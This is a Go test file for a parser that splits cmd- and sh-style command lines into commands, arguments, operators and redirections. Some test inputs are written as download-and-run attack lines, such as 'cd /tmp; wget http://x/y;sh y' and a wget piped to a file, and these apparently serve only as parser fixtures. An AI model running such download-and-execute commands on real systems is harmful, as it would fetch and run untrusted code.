package shell

import (
	"reflect"
	"strings"
	"testing"
)

type parseCase struct {
	name string
	syn  Syntax
	line string
	want []Command // Raw and Text are checked only when set
	err  string    // the error's token, when one is wanted
}

func argsOnly(ops []Op, args ...[]string) []Command {
	out := make([]Command, len(args))
	for i := range args {
		out[i] = Command{Op: ops[i], Args: args[i]}
	}
	return out
}

var parseCases = []parseCase{
	{"one word", CmdSyntax, "dir", argsOnly([]Op{First}, []string{"dir"}), ""},
	{"blanks", CmdSyntax, "  dir   c:\\  ", argsOnly([]Op{First}, []string{"dir", `c:\`}), ""},
	{"cmd chain", CmdSyntax, "dir & ver && hostname || echo no | find x",
		argsOnly([]Op{First, Seq, And, Or, Pipe}, []string{"dir"}, []string{"ver"}, []string{"hostname"}, []string{"echo", "no"}, []string{"find", "x"}), ""},
	{"cmd semicolon is a letter", CmdSyntax, "echo a;b", argsOnly([]Op{First}, []string{"echo", "a;b"}), ""},
	{"sh semicolon", ShSyntax, "cd /tmp; wget http://x/y;sh y",
		argsOnly([]Op{First, Seq, Seq}, []string{"cd", "/tmp"}, []string{"wget", "http://x/y"}, []string{"sh", "y"}), ""},
	{"cmd quotes keep operators", CmdSyntax, `echo "a & b" & ver`,
		[]Command{{Op: First, Args: []string{"echo", "a & b"}, Text: `echo "a & b" `}, {Op: Seq, Args: []string{"ver"}}}, ""},
	{"cmd caret", CmdSyntax, "echo a^&b", []Command{{Op: First, Args: []string{"echo", "a&b"}, Text: "echo a&b"}}, ""},
	{"cmd backslash is a path", CmdSyntax, `type c:\boot.ini`, argsOnly([]Op{First}, []string{"type", `c:\boot.ini`}), ""},
	{"cmd unclosed quote runs to the end", CmdSyntax, `echo "a & b`, argsOnly([]Op{First}, []string{"echo", "a & b"}), ""},
	{"sh single quotes", ShSyntax, `echo 'a;b "c"' x`, argsOnly([]Op{First}, []string{"echo", `a;b "c"`, "x"}), ""},
	{"sh double quotes and escapes", ShSyntax, `echo "a\"b" c\;d`, argsOnly([]Op{First}, []string{"echo", `a"b`, "c;d"}), ""},
	{"empty quoted word", ShSyntax, `echo "" x`, argsOnly([]Op{First}, []string{"echo", "", "x"}), ""},
	{"sh unclosed quote", ShSyntax, `echo 'a`, nil, ""},
	{"redirections", CmdSyntax, "echo open 1.2.3.4 21> x 2>nul",
		[]Command{{Op: First, Args: []string{"echo", "open", "1.2.3.4", "21"},
			Redirects: []Redirect{{FD: 1, Op: ">", Target: "x"}, {FD: 2, Op: ">", Target: "nul"}},
			Text:      "echo open 1.2.3.4 21 "}}, ""},
	{"append and duplicate", ShSyntax, "wget -O- http://x >>/tmp/a 2>&1",
		[]Command{{Op: First, Args: []string{"wget", "-O-", "http://x"},
			Redirects: []Redirect{{FD: 1, Op: ">>", Target: "/tmp/a"}, {FD: 2, Op: ">", Target: "&1"}}}}, ""},
	{"input", ShSyntax, "sh < x", []Command{{Op: First, Args: []string{"sh"}, Redirects: []Redirect{{FD: 0, Op: "<", Target: "x"}}}}, ""},
	{"quoted digit is a word", CmdSyntax, `echo "2">x`,
		[]Command{{Op: First, Args: []string{"echo", "2"}, Redirects: []Redirect{{FD: 1, Op: ">", Target: "x"}}}}, ""},
	{"newlines", ShSyntax, "cd /tmp\n\nls\n", argsOnly([]Op{First, Seq}, []string{"cd", "/tmp"}, []string{"ls"}), ""},
	{"line ending in &", CmdSyntax, "dir &", argsOnly([]Op{First}, []string{"dir"}), ""},
	{"raw text", ShSyntax, "  a  'b c' ;  d ", []Command{{Op: First, Args: []string{"a", "b c"}, Raw: "a  'b c'"}, {Op: Seq, Args: []string{"d"}, Raw: "d"}}, ""},
	{"empty", CmdSyntax, "", nil, ""},
	{"leading &&", CmdSyntax, "&& dir", nil, "&&"},
	{"trailing |", CmdSyntax, "dir |", nil, "|"},
	{"doubled ;", ShSyntax, "a ; ; b", nil, ";"},
	{"redirection without target", ShSyntax, "echo x >", nil, ""},
	{"redirection before operator", CmdSyntax, "echo x > & dir", nil, "&"},
}

func TestParse(t *testing.T) {
	for _, tc := range parseCases {
		t.Run(tc.name, func(t *testing.T) {
			got, err := Parse(tc.line, tc.syn)
			wantErr := tc.err != "" || (tc.want == nil && tc.line != "")
			if wantErr {
				se, ok := err.(*SyntaxError)
				if !ok {
					t.Fatalf("got %+v, %v; want a syntax error", got, err)
				}
				if tc.err != "" && se.Token != tc.err {
					t.Fatalf("error token %q, want %q", se.Token, tc.err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if len(got) != len(tc.want) {
				t.Fatalf("got %d commands %+v, want %d", len(got), got, len(tc.want))
			}
			for i, w := range tc.want {
				g := got[i]
				if g.Op != w.Op || !reflect.DeepEqual(g.Args, w.Args) || !reflect.DeepEqual(g.Redirects, w.Redirects) {
					t.Errorf("command %d: got %+v, want %+v", i, g, w)
				}
				if w.Raw != "" && g.Raw != w.Raw {
					t.Errorf("command %d: raw %q, want %q", i, g.Raw, w.Raw)
				}
				if w.Text != "" && g.Text != w.Text {
					t.Errorf("command %d: text %q, want %q", i, g.Text, w.Text)
				}
			}
		})
	}
}

func TestParseBounds(t *testing.T) {
	cmds, err := Parse(strings.Repeat("a&", 1000), CmdSyntax)
	if err != nil || len(cmds) != MaxCommands {
		t.Errorf("got %d commands, %v; want %d", len(cmds), err, MaxCommands)
	}
	cmds, err = Parse("x"+strings.Repeat(" a", 1000), CmdSyntax)
	if err != nil || len(cmds[0].Args) != MaxArgs {
		t.Errorf("got %d args, %v; want %d", len(cmds[0].Args), err, MaxArgs)
	}
	cmds, _ = Parse(strings.Repeat("b", MaxLine+100), CmdSyntax)
	if len(cmds[0].Args[0]) != MaxLine {
		t.Errorf("a word of %d bytes survived; the line bound is %d", len(cmds[0].Args[0]), MaxLine)
	}
}
